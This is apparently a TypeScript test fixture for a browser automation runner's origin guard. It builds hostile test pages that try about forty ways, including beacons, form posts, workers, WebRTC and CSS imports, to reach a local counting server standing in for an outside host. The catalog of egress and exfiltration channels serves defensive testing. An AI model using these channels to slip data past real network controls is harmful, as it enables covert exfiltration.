// The hostile page of the origin-guard suites (test/runner/origins.spec.ts, test/slow/hostile.spec.ts):
// an allowed origin A whose pages try every way out we know of, and a second origin B that counts
// everything that reaches it: TCP connections (the strictest count: a bare preconnect has no request),
// HTTP requests by path, WebSocket upgrades, bytes that are not HTTP (WebRTC's TURN over TCP), and UDP
// datagrams on the same port (STUN, QUIC). A and B are both on 127.0.0.1, on two ports: two origins of
// one site, so that Chromium's same-site features (speculation rules) are tried too.
import dgram from 'node:dgram';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { WebSocketServer } from 'ws';

export interface Counter {
  origin: string;
  connections: number;
  requests: string[];
  upgrades: string[];
  notHttp: number;
  datagrams: number;
  /** What reached it, in one line, for assertion messages. */
  summary(): string;
  reset(): void;
  /** Resolves when a mark has arrived (a request or upgrade with this path prefix, 'not-http', 'udp'), or false after ms. */
  arrived(prefix: string, ms: number): Promise<boolean>;
  close(): Promise<void>;
}

const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** B: the second origin, counting everything that reaches it. */
export async function startCounter(): Promise<Counter> {
  const waiters = new Set<() => void>();
  const state = { connections: 0, requests: [] as string[], upgrades: [] as string[], notHttp: 0, datagrams: 0 };
  const note = (list: string[], path: string) => {
    list.push(path);
    for (const wake of waiters) wake();
  };
  const server = http.createServer((req, res) => {
    note(state.requests, `${req.method} ${req.url}`);
    const headers = { 'access-control-allow-origin': '*', 'cache-control': 'no-store' };
    // What each way asks for, so that its page can tell success from refusal when B is allowed.
    const path = req.url ?? '';
    if (path.includes('eventsource'))
      return res.writeHead(200, { ...headers, 'content-type': 'text/event-stream' }).end('data: hello\n\n');
    if (/img|preload/.test(path)) return res.writeHead(200, { ...headers, 'content-type': 'image/gif' }).end(PIXEL);
    if (path.includes('script'))
      return res.writeHead(200, { ...headers, 'content-type': 'text/javascript' }).end('void 0;');
    if (path.includes('css'))
      return res.writeHead(200, { ...headers, 'content-type': 'text/css' }).end('p { color: red; }');
    res
      .writeHead(200, { ...headers, 'content-type': 'text/html' })
      .end('<!doctype html><title>B</title><p id="where">B</p>');
  });
  server.on('connection', () => state.connections++);
  // TURN over TCP (WebRTC) is not HTTP: the parser refuses it.
  server.on('clientError', (_err, socket) => {
    state.notHttp++;
    for (const wake of waiters) wake();
    socket.destroy();
  });
  const wss = new WebSocketServer({ noServer: true });
  server.on('upgrade', (req, socket, head) => {
    note(state.upgrades, req.url ?? '');
    wss.handleUpgrade(req, socket, head, (ws) => ws.send('hello from B'));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  const udp = dgram.createSocket('udp4');
  udp.on('message', () => {
    state.datagrams++;
    for (const wake of waiters) wake();
  });
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
  const has = (mark: string) => {
    if (mark === 'not-http') return state.notHttp > 0;
    if (mark === 'udp') return state.datagrams > 0;
    return [...state.requests, ...state.upgrades].some((r) => r.split(' ').at(-1)!.startsWith(mark));
  };
  return {
    origin: `http://127.0.0.1:${port}`,
    get connections() {
      return state.connections;
    },
    get requests() {
      return state.requests;
    },
    get upgrades() {
      return state.upgrades;
    },
    get notHttp() {
      return state.notHttp;
    },
    get datagrams() {
      return state.datagrams;
    },
    summary: () => JSON.stringify(state),
    reset: () => Object.assign(state, { connections: 0, requests: [], upgrades: [], notHttp: 0, datagrams: 0 }),
    arrived: (prefix, ms) =>
      new Promise<boolean>((resolve) => {
        if (has(prefix)) return resolve(true);
        const timer = setTimeout(() => finish(false), ms);
        const wake = () => has(prefix) && finish(true);
        const finish = (seen: boolean) => {
          clearTimeout(timer);
          waiters.delete(wake);
          resolve(seen);
        };
        waiters.add(wake);
      }),
    close: () =>
      new Promise<void>((resolve) => {
        wss.close();
        udp.close();
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/**
 * A way out. `kind`: 'main' leaves the page (or opens one) and must fail a step with
 * E_NAVIGATION_BLOCKED; 'sub' is a request of the page, aborted quietly. `mark` is what B sees when
 * it gets through the runner with B allowed (a path under /b/, 'not-http', 'udp'); 'none' for a way
 * Chromium does not take behind the runner's gate even when allowed: then `plain` is what B sees from
 * a plain Chromium context (no runner), the proof that the page's attempt is real. `steps` are the
 * run's steps for it; `blockedAt` the step that must fail (any one of them when absent).
 */
export interface Way {
  name: string;
  kind: 'main' | 'sub';
  mark: string;
  plain?: string;
  /** Its page can tell that its attempt was refused (a request that fails, a socket that closes). */
  seesRefusal?: boolean;
  steps: (A: string, B: string) => unknown[];
  blockedAt?: number;
}

const s = (otp: Record<string, unknown>, timeoutMs = 5000) => ({
  otp,
  timeoutMs,
  continueOnFail: true,
  evidence: 'never',
});
const open = (A: string, name: string) => s({ action: 'navigate', url: `${A}/way/${name}` });
const done = () => s({ action: 'assert', kind: 'text', locator: { by: 'css', value: '#status' }, expected: 'done' });
const click = () => s({ action: 'click', locator: { by: 'css', value: '#go' } });
/** The page has left A: it shows B, or Chromium's error page for a refused navigation. */
const left = (B: string) =>
  s({ action: 'assert', kind: 'url', op: 'matches', expected: `^(chrome-error:|${B.replace(/\./g, '\\.')}/)` });

/** Pages that can tell their attempt was refused: its request fails, its socket closes. */
const SEES_REFUSAL = new Set([
  'fetch',
  'img',
  'script',
  'img-redirect',
  'fetch-chain',
  'eventsource',
  'websocket',
  'worker-fetch',
  'worker-websocket',
  'shared-worker',
  'service-worker',
  'css-import',
  'link-prefetch',
  'preload',
  'webtransport',
  'fetch-301',
  'fetch-302',
  'fetch-303',
  'fetch-307',
  'fetch-308',
]);
const sub = (name: string, mark = `/b/${name}`): Way => ({
  name,
  kind: 'sub',
  mark,
  seesRefusal: SEES_REFUSAL.has(name),
  steps: (A) => [open(A, name), done()],
});
const redirectTo = (A: string, status: number, to: string) => `${A}/r/${status}?to=${encodeURIComponent(to)}`;

export const WAYS: Way[] = [
  // Navigations: the navigate step itself must fail, naming the refused hop.
  ...[301, 302, 303, 307, 308].map(
    (status): Way => ({
      name: `navigate-${status}`,
      kind: 'main',
      mark: `/b/navigate-${status}`,
      steps: (A, B) => [s({ action: 'navigate', url: redirectTo(A, status, `${B}/b/navigate-${status}`) })],
      blockedAt: 0,
    }),
  ),
  {
    name: 'navigate-chain',
    kind: 'main',
    mark: '/b/navigate-chain',
    steps: (A, B) => [s({ action: 'navigate', url: redirectTo(A, 302, redirectTo(A, 301, `${B}/b/navigate-chain`)) })],
    blockedAt: 0,
  },
  { name: 'meta-refresh', kind: 'main', mark: '/b/meta-refresh', steps: (A, B) => [open(A, 'meta-refresh'), left(B)] },
  {
    name: 'top-from-iframe',
    kind: 'main',
    mark: '/b/top-from-iframe',
    steps: (A, B) => [open(A, 'top-from-iframe'), left(B)],
  },
  ...['location', 'link', 'form-post', 'form-post-307'].map(
    (name): Way => ({
      name,
      kind: 'main',
      mark: `/b/${name}`,
      steps: (A, B) => [open(A, name), click(), left(B)],
      blockedAt: 1,
    }),
  ),
  // Popups and new pages, and a download (a navigation that stays on the page): the click fails.
  ...['window-open', 'target-blank', 'popup-redirect', 'download'].map(
    (name): Way => ({ name, kind: 'main', mark: `/b/${name}`, steps: (A) => [open(A, name), click()], blockedAt: 1 }),
  ),
  // Requests of the page, its frames and workers.
  ...[
    'fetch',
    'xhr',
    'img',
    'script',
    'iframe',
    'iframe-redirect',
    'img-redirect',
    'fetch-chain',
    'beacon',
    'eventsource',
    'websocket',
    'worker-fetch',
    'worker-websocket',
    'shared-worker',
    'service-worker',
    'css-import',
    'css-url',
    'font',
    'link-prefetch',
    'preload',
    'csp-report',
  ].map((name) => sub(name)),
  ...[301, 302, 303, 307, 308].map((status) => sub(`fetch-${status}`)),
  { name: 'ping', kind: 'sub', mark: '/b/ping', steps: (A) => [open(A, 'ping'), click(), done()] },
  // WebRTC: UDP (STUN) only from a plain Chromium; behind the gate TURN goes over TCP, through it.
  { ...sub('webrtc', 'not-http'), plain: 'udp' },
  // Chromium takes none of these behind a proxy: no prefetch or prerender (not eligible with a proxy),
  // no QUIC (WebTransport cannot pass a SOCKS proxy: refused outright, to allowed origins too).
  { ...sub('spec-prefetch', 'none'), plain: '/b/spec-prefetch' },
  { ...sub('spec-prerender', 'none'), plain: '/b/spec-prerender' },
  { ...sub('webtransport', 'none'), plain: 'udp' },
  // Chromium makes no preconnect or DNS prefetch in a browser context at all (plain ones included):
  // kept as a canary for a Chromium that starts making them.
  sub('preconnect', 'none'),
];

/** The page of each way: `B` is the other origin; `finish()` reports done (after B saw it, when allowed). */
export function wayPage(name: string, B: string): { head?: string; body: string; headers?: Record<string, string> } {
  const b = (what = name) => `${B}/b/${what}`;
  const ws = B.replace(/^http/, 'ws');
  const go = (js: string) => `<button id="go" onclick="${js.replace(/"/g, '&quot;')}">Go</button>`;
  const settle = (promise: string) =>
    `<script>Promise.resolve().then(() => ${promise}).then(() => 'ok', () => 'failed').then(finish);</script>`;
  const status = /^fetch-(\d+)$/.exec(name);
  if (status) {
    // 307 and 308 keep the method and body: a POST goes on to the next hop.
    const init = Number(status[1]) >= 307 ? `{ method: 'POST', body: 'secret' }` : '{}';
    return { body: settle(`fetch('/r/${status[1]}?to=${encodeURIComponent(b())}', ${init})`) };
  }
  switch (name) {
    case 'meta-refresh':
      return { head: `<meta http-equiv="refresh" content="0;url=${b()}">`, body: '' };
    case 'top-from-iframe':
      return { body: `<iframe srcdoc="<script>top.location.href = '${b()}'</script>"></iframe>` };
    case 'location':
      return { body: go(`location.href = '${b()}'`) };
    case 'link':
      return { body: `<a id="go" href="${b()}">Away</a>` };
    case 'form-post':
      return {
        body: `<form method="post" action="${b()}"><input name="card" value="4242"><button id="go">Pay</button></form>`,
      };
    case 'form-post-307':
      return {
        body: `<form method="post" action="/r/307?to=${encodeURIComponent(b())}"><input name="card" value="4242"><button id="go">Pay</button></form>`,
      };
    case 'window-open':
      return { body: go(`window.open('${b()}')`) };
    case 'target-blank':
      return { body: `<a id="go" target="_blank" href="${b()}">Away</a>` };
    case 'popup-redirect':
      return { body: go(`window.open('/r/302?to=${encodeURIComponent(b())}')`) };
    case 'download':
      return { body: `<a id="go" href="${b()}" download="leak.html">Download</a>` };
    case 'fetch':
      return { body: settle(`fetch('${b()}')`) };
    case 'xhr':
      return {
        body: settle(
          `new Promise((ok) => { const x = new XMLHttpRequest(); x.onloadend = ok; x.open('GET', '${b()}'); x.send(); })`,
        ),
      };
    case 'img':
      return {
        body: settle(
          `new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = '${b()}'; })`,
        ),
      };
    case 'script':
      return {
        body: settle(
          `new Promise((ok, no) => { const e = document.createElement('script'); e.onload = ok; e.onerror = no; e.src = '${b()}'; document.body.append(e); })`,
        ),
      };
    case 'iframe':
      return {
        body: settle(
          `new Promise((ok) => { const f = document.createElement('iframe'); f.onload = ok; f.src = '${b()}'; document.body.append(f); })`,
        ),
      };
    case 'iframe-redirect':
      return {
        body: settle(
          `new Promise((ok) => { const f = document.createElement('iframe'); f.onload = ok; f.src = '/r/302?to=${encodeURIComponent(b())}'; document.body.append(f); })`,
        ),
      };
    case 'img-redirect':
      return {
        body: settle(
          `new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = '/r/302?to=${encodeURIComponent(b())}'; })`,
        ),
      };
    case 'fetch-chain':
      return { body: settle(`fetch('/r/302?to=${encodeURIComponent(`/r/307?to=${encodeURIComponent(b())}`)}')`) };
    case 'beacon':
      return { body: settle(`navigator.sendBeacon('${b()}', 'secret')`) };
    case 'eventsource':
      return {
        body: settle(
          `new Promise((ok, no) => { const e = new EventSource('${b()}'); e.onmessage = () => { e.close(); ok(); }; e.onerror = () => { e.close(); no(); }; })`,
        ),
      };
    case 'websocket':
      return {
        body: settle(
          `new Promise((ok, no) => { const w = new WebSocket('${ws}/b/${name}'); w.onmessage = ok; w.onclose = no; })`,
        ),
      };
    case 'worker-fetch':
    case 'worker-websocket':
      return {
        body: settle(
          `new Promise((ok, no) => { const w = new Worker('/worker.js?way=${name}'); w.onmessage = (e) => (e.data === 'ok' ? ok : no)(); })`,
        ),
      };
    case 'shared-worker':
      return {
        body: settle(
          `new Promise((ok, no) => { const w = new SharedWorker('/worker.js?way=${name}'); w.port.onmessage = (e) => (e.data === 'ok' ? ok : no)(); w.port.start(); })`,
        ),
      };
    case 'service-worker':
      // The worker's own request, made from the worker when the page asks: no page, no frame.
      return {
        body: settle(
          `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => new Promise((ok, no) => { navigator.serviceWorker.onmessage = (e) => (e.data === 'ok' ? ok : no)(); r.active.postMessage('${b()}'); }))`,
        ),
      };
    case 'css-import':
      return {
        body: settle(
          `new Promise((ok, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = ok; l.onerror = no; l.href = '/import.css?to=${encodeURIComponent(b())}'; document.head.append(l); })`,
        ),
      };
    case 'css-url':
      return {
        head: `<style>#bg { background-image: url('${b()}'); }</style>`,
        body: `<div id="bg">x</div>${settle('seen()')}`,
      };
    case 'font':
      return { body: settle(`new FontFace('leak', "url('${b()}')").load()`) };
    case 'link-prefetch':
      return {
        body: settle(
          `new Promise((ok, no) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.onload = ok; l.onerror = no; l.href = '${b()}'; document.head.append(l); })`,
        ),
      };
    case 'preload':
      return {
        body: settle(
          `new Promise((ok, no) => { const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.onload = ok; l.onerror = no; l.href = '${b()}'; document.head.append(l); })`,
        ),
      };
    case 'spec-prefetch':
      return {
        body: `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${b()}"]}]}</script>${settle('seen()')}`,
      };
    case 'spec-prerender':
      return {
        body: `<script type="speculationrules">{"prerender": [{"source": "list", "urls": ["${b()}"]}]}</script>${settle('seen()')}`,
      };
    case 'csp-report':
      // The report is sent by the browser after the violation event; B is only the report's address.
      return {
        headers: { 'content-security-policy': `img-src 'none'; report-uri ${b()}` },
        body: settle(
          `new Promise((ok) => { document.addEventListener('securitypolicyviolation', ok); const i = new Image(); i.src = '/nothing.png'; }).then(seen)`,
        ),
      };
    case 'ping':
      return { body: `<a id="go" href="/landing?way=ping" ping="${b()}">Go on</a>` };
    case 'webrtc':
      // STUN over UDP and TURN over TCP, both at B; done when the browser has gathered all it will.
      return {
        body: settle(
          `new Promise((ok) => { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${B.slice(7)}' }, { urls: 'turn:${B.slice(7)}?transport=tcp', username: 'u', credential: 'p' }] }); pc.onicegatheringstatechange = () => pc.iceGatheringState === 'complete' && ok(); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); }).then(seen)`,
        ),
      };
    case 'webtransport':
      return { body: settle(`new WebTransport('${B.replace(/^http:/, 'https:')}/b/${name}').ready`) };
    case 'preconnect':
      return {
        head: `<link rel="preconnect" href="${B}"><link rel="dns-prefetch" href="${B}">`,
        headers: { link: `<${B}>; rel=preconnect` },
        body: settle('Promise.resolve()'),
      };
    default:
      throw new Error(`no page for ${name}`);
  }
}

/**
 * The page around a way: `seen()` waits (on A) until B has seen the way when B is allowed; `finish()`
 * tells A what the page saw of its attempt ('ok', or 'failed' when it could tell it was refused) and
 * then shows done.
 */
function wrap(name: string, page: { head?: string; body: string }): string {
  return `<!doctype html><html><head><title>Way ${name}</title>${page.head ?? ''}<script>
  const way = ${JSON.stringify(name)};
  function seen(outcome = '') { return fetch('/seen/' + way + '?outcome=' + outcome).then((r) => r.text()); }
  function finish(outcome) {
    seen(outcome).then(() => {
      document.getElementById('outcome').textContent = outcome;
      document.getElementById('status').textContent = 'done';
    });
  }
</script></head><body><p id="status">pending</p><p id="outcome"></p>${page.body}</body></html>`;
}

function workerScript(way: string, B: string): string {
  const target = `${B}/b/${way}`;
  switch (way) {
    case 'worker-fetch':
      return `fetch('${target}').then(() => 'ok', () => 'failed').then((r) => postMessage(r));`;
    case 'worker-websocket':
      // From a worker: no page script can wrap this WebSocket.
      return `const w = new WebSocket('${target.replace(/^http/, 'ws')}'); w.onmessage = () => postMessage('ok'); w.onclose = () => postMessage('closed');`;
    case 'shared-worker':
      return `onconnect = (e) => { const port = e.ports[0]; fetch('${target}').then(() => 'ok', () => 'failed').then((r) => port.postMessage(r)); };`;
    default:
      return '';
  }
}

const SERVICE_WORKER = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(clients.claim()));
self.addEventListener('message', (e) => e.waitUntil(fetch(e.data).then(() => 'ok', () => 'failed').then((r) => e.source.postMessage(r))));`;

export interface Site {
  origin: string;
  /**
   * What /seen waits for: B to see each way's `mark` (B allowed in the run now going), its `plain`
   * mark (a plain Chromium context, no runner), or nothing (B not allowed: /seen answers at once).
   */
  awaiting: 'mark' | 'plain' | 'nothing';
  /** What each way's page saw of its attempt, as its finish() told A. */
  outcomes: Map<string, string>;
  /** WebSocket connections to A's own /ws. */
  ownSockets: number;
  close(): Promise<void>;
}

/** A: the allowed origin, serving each way's page and what the pages need (redirects, workers, CSS). */
export async function startSite(B: Counter): Promise<Site> {
  const ways = new Map(WAYS.map((w) => [w.name, w]));
  const site: Omit<Site, 'origin' | 'close'> = { awaiting: 'nothing', outcomes: new Map(), ownSockets: 0 };
  const server = http.createServer(async (req, res) => {
    const url = new URL(req.url ?? '/', 'http://a');
    const [, first, name = ''] = url.pathname.split('/');
    const send = (type: string, body: string, extra: Record<string, string> = {}) =>
      res.writeHead(200, { 'content-type': type, 'cache-control': 'no-store', ...extra }).end(body);
    req.resume();
    switch (first) {
      case 'way': {
        const page = wayPage(name, B.origin);
        return send('text/html', wrap(name, page), page.headers);
      }
      case 'landing':
        return send('text/html', wrap(url.searchParams.get('way')!, { body: `<script>finish('landed')</script>` }));
      case 'r':
        return res.writeHead(Number(name), { location: url.searchParams.get('to')! }).end();
      case 'seen': {
        const outcome = url.searchParams.get('outcome');
        if (outcome) site.outcomes.set(name, outcome);
        const way = ways.get(name);
        const mark =
          site.awaiting === 'mark' ? way?.mark : site.awaiting === 'plain' ? (way?.plain ?? way?.mark) : 'none';
        // When B is allowed, the page waits here until B has seen the way (at most 4 s): the run must
        // not move on before a fire-and-forget request (a beacon, a prefetch) has arrived.
        const arrived = mark && mark !== 'none' ? await B.arrived(mark, 4000) : false;
        return send('text/plain', arrived ? 'arrived' : 'not awaited');
      }
      case 'worker.js':
        return send('text/javascript', workerScript(url.searchParams.get('way')!, B.origin));
      case 'sw.js':
        return send('text/javascript', SERVICE_WORKER);
      case 'import.css':
        return send('text/css', `@import url('${url.searchParams.get('to')}');`);
      case 'own-ws':
        return send(
          'text/html',
          `<!doctype html><title>Own socket</title><p id="ws">pending</p><script>
          const w = new WebSocket(location.origin.replace('http', 'ws') + '/ws');
          w.onmessage = (e) => { document.getElementById('ws').textContent = e.data; };
          w.onclose = (e) => { document.getElementById('ws').textContent = 'closed ' + e.code; };
        </script>`,
        );
      default:
        return res.writeHead(404).end();
    }
  });
  const wss = new WebSocketServer({ server, path: '/ws' });
  wss.on('connection', (ws) => {
    site.ownSockets++;
    ws.send('echo from A');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return Object.assign(site, {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () =>
      new Promise<void>((resolve) => {
        wss.close();
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  });
}
